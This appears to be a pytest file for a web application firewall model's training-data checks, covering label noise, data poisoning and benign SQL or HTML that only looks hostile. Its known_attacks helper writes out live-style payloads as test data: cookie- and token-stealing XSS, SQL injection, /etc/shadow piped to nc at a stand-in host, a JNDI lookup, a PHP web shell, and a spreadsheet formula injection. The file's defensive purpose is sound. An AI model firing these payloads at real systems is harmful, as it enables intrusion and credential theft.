"""Rows that cannot be right: noise, poison, and honest rows that only look odd."""

from __future__ import annotations

import csv
import random
from collections.abc import Callable
from dataclasses import replace
from functools import cache
from pathlib import Path

import numpy as np
import pytest

from ngwaf_made import made_attacks
from ngwaf_model.artefact import Artefact, load_archive
from ngwaf_model.fine_tune import FineTuning, fine_tune
from ngwaf_model.model import Model
from ngwaf_model.rows import Row as TrainingRow
from ngwaf_pipeline.certain_knowledge import CERTAINLY_BENIGN, CERTAINLY_MALICIOUS
from ngwaf_pipeline.champion import BASE_ARTEFACT
from ngwaf_pipeline.data import Row, read_rows
from ngwaf_pipeline.data_quality import DataQuality, examine, masked

NOTEBOOKS = Path(__file__).parents[2]


@cache
def base() -> Artefact:
    return load_archive(BASE_ARTEFACT)


@cache
def sample() -> list[Row]:
    """A part of the sample: what is shown of it holds for all of it, and takes longer."""
    return read_rows(NOTEBOOKS / "sample" / "traffic.csv")[:800]


@cache
def regression() -> list[Row]:
    return read_rows(NOTEBOOKS / "regression" / "regression.csv")


def look(rows: list[Row], keep: bool = False) -> DataQuality:
    return examine(rows, base(), regression(), keep)


@cache
def look_at_sample() -> DataQuality:
    return look(sample())


def learn(rows: list[Row]) -> Model:
    train = [TrainingRow(row.payload, row.label, row.is_url) for row in rows]
    manifest = {"version": "x", "parent": None, "created_at": None, "data": []}
    validation = train[:: len(train) // 50]
    return fine_tune(base(), train, validation, FineTuning(), manifest).model


def detected(model: Model, rows: list[Row]) -> float:
    scores = model.score([row.payload for row in rows], [row.is_url for row in rows])
    return float((scores >= model.threshold).mean())


def known_attacks(seed: int, count: int) -> list[Row]:
    """Attacks that the base model is certain of, each of its own."""
    choose = random.Random(seed)
    forms: list[Callable[[int], str]] = [
        lambda n: f"<script>document.location='http://h{n}.test/'+document.cookie</script>",
        lambda n: f"{n}' UNION ALL SELECT NULL,username,password FROM users WHERE a='{n}'--",
        lambda n: f"../../../../../../../etc/passwd%00{n}.jpg",
        lambda n: f"; cat /etc/shadow | nc h{n}.test 4444",
        lambda n: f"${{jndi:ldap://h{n}.test:1389/a}}",
        lambda n: f'"><img src=x{n} onerror=fetch("//h{n}.test/"+localStorage.token)>',
        lambda n: f"admin{n}' AND (SELECT {n} FROM (SELECT SLEEP(5))x)-- -",
        lambda n: f"<?php system($_GET['c{n}']); ?>",
    ]
    return [Row(choose.choice(forms)(choose.randint(1, 10**6)), 1, False) for _ in range(count)]


def test_an_honest_data_set_is_left_whole_and_learned() -> None:
    quality = look_at_sample()

    assert quality.against_base == []
    assert len(quality.rows) == len(sample())


def test_text_with_both_labels_is_left_out_and_named() -> None:
    data = [
        *sample()[:200],
        Row("a=Hello%20world", 0, False, 900),
        Row("a=hello world", 1, False, 901),
    ]

    quality = look(data)

    assert quality.record(None)["contradicting_labels"] == {"rows": 2, "lines": [900, 901]}
    assert not {"a=Hello%20world", "a=hello world"} & {row.payload for row in quality.rows}


def test_repeated_rows_are_counted_and_stay() -> None:
    quality = look([*sample(), *sample()[:5]])

    assert quality.duplicates == look_at_sample().duplicates + 5
    assert len(quality.rows) == len(sample()) + 5


def test_of_two_percent_of_wrong_labels_the_certain_ones_are_found_and_no_other() -> None:
    known = [row for row in regression() if row.label == 1][::3]
    choose = random.Random(7)
    data = [*sample(), *known]
    flipped = set(choose.sample(range(len(data)), len(data) // 50))
    data = [
        replace(row, label=1 - row.label, line=index)
        if index in flipped
        else replace(row, line=index)
        for index, row in enumerate(data)
    ]

    found = {finding.row.line for finding in look(data).against_base}

    scores = base().model.score([row.payload for row in data], [row.is_url for row in data])
    labels = np.array([row.label for row in data])
    is_certain = np.where(labels == 0, scores >= CERTAINLY_MALICIOUS, scores <= CERTAINLY_BENIGN)
    certain = {index for index in flipped if is_certain[index]}
    assert len(certain) >= 5
    assert len(found & certain) >= 0.9 * len(certain)
    assert len(found - flipped) <= 2


@pytest.mark.parametrize("count", [20, 200])
def test_known_attacks_labelled_benign_are_held_back_and_still_detected(count: int) -> None:
    poison = [replace(row, label=0) for row in known_attacks(1, count)]
    fresh = known_attacks(2, 100)
    data = [*sample(), *poison]

    quality = look(data)

    share = len(quality.against_base) / len({row.payload for row in poison})
    guarded = learn(quality.rows)
    assert share > 0.9
    assert detected(guarded, fresh) > detected(base().model, fresh) - 0.05
    assert detected(guarded, [row for row in sample() if row.label == 1]) > 0.9


def page(choose: random.Random) -> str:
    """HTML as an editor of pages sends it: odd to the base model, and none of it an attack."""
    words = ["garden", "harvest", "meadow", "orchard", "quarry", "river", "station", "valley"]
    first, second, third = choose.sample(words, 3)
    number = choose.randint(1, 999)
    return choose.choice(
        [
            f'<h2 class="{first}">{second} {third}</h2><p style="color:red">{first} {third}</p>'
            f'<a href="https://www.{second}.example/" onclick="track({number})">{second}</a>',
            f'<script src="https://cdn.{first}.example/{number}.js"></script><div>{second}</div>',
            f'<iframe src="https://video.{first}.example/{number}" width="560"></iframe>{second}',
            f'<img src="/media/{number}.jpg" alt="{second}" onload="fadeIn(this)"><br>{third}',
        ]
    )


def test_known_attacks_are_held_back_beside_honest_rows_that_look_like_attacks() -> None:
    choose = random.Random(5)
    pages = [Row(page(choose), 0, False) for _ in range(200)]
    commands = [Row(text, 0, False) for text, kind in made_attacks(150, 1) if kind == "cmdi"]
    poison = choose.sample(commands, 100)

    quality = look([*sample(), *pages, *poison])

    held_back = {finding.row.payload for finding in quality.against_base}
    assert len(held_back & {row.payload for row in poison}) > 0.9 * len(poison)
    assert len(held_back & {row.payload for row in pages}) < 0.5 * len(pages)


def test_without_the_guard_they_would_poison_the_model() -> None:
    poison = [replace(row, label=0) for row in known_attacks(1, 200)]

    poisoned = learn(look([*sample(), *poison], keep=True).rows)

    assert detected(poisoned, known_attacks(2, 100)) < 0.5


def test_benign_rows_labelled_malicious_are_held_back() -> None:
    benign = [row for row in regression() if row.label == 0]
    scores = base().model.score([row.payload for row in benign], [row.is_url for row in benign])
    certain = [
        replace(row, label=1) for row, score in zip(benign, scores) if score <= CERTAINLY_BENIGN
    ][:40]

    quality = look([*sample(), *certain])

    assert len(certain) >= 20
    assert len(quality.against_base) >= 0.9 * len(certain)


def test_honest_rows_that_look_like_attacks_are_not_held_back() -> None:
    choose = random.Random(3)
    words = ["orders", "parts", "clients", "depots", "routes", "tariffs", "claims", "vessels"]
    queries = [
        "SELECT {0}.id, {1}.name FROM {0} JOIN {1} ON {0}.id = {1}.{2} WHERE {0}.{2} = '{3}'",
        "UPDATE {0} SET {1} = '{2}' WHERE id = {4}; -- {3}",
        "INSERT INTO {0} ({1}, {2}) VALUES ('{3}', {4});",
    ]
    console = [
        Row(
            choose.choice(queries).format(*choose.sample(words, 4), choose.randint(1, 9999)),
            0,
            False,
        )
        for _ in range(150)
    ]

    quality = look([*sample(), *console])

    assert len(quality.against_base) <= 0.02 * len(console)
    assert detected(learn(quality.rows), console) < 0.01


def test_who_insists_trains_on_all_rows_and_is_told() -> None:
    poison = [replace(row, label=0, line=5000 + n) for n, row in enumerate(known_attacks(1, 20))]

    quality = look([*sample(), *poison], keep=True)

    record = quality.record("s3://b/k")["contradicting_base_model"]
    assert (record["held_back"], len(record["lines"])) == (False, 10)
    assert record["rows"] >= 18
    assert len(quality.rows) == len(sample()) + len(poison)


def test_the_report_names_each_row_masked_and_inert(tmp_path: Path) -> None:
    attack = "=cmd|'/c calc'!A0&password=hunter2&q=<script>alert(document.cookie)</script>"
    data = masked(
        [*sample(), Row(attack, 0, False, 42), Row("x=1", 0, False, 7), Row("x=1", 1, False, 8)]
    )

    path = look(data).write_report(tmp_path / "report.csv")

    assert path is not None
    with path.open(encoding="utf-8", newline="") as file:
        lines = list(csv.DictReader(file))
    assert [line["line"] for line in lines] == ["7", "8", "42"]
    assert lines[2]["payload"].startswith("'=cmd|'/c calc'!A0&password=masked&q=<script>")
    assert (lines[2]["reason"], lines[2]["left_out"]) == ("script that proves itself", "TRUE")
    assert float(lines[2]["score"]) > 0.95


def test_without_findings_there_is_no_report(tmp_path: Path) -> None:
    assert look_at_sample().write_report(tmp_path / "report.csv") is None
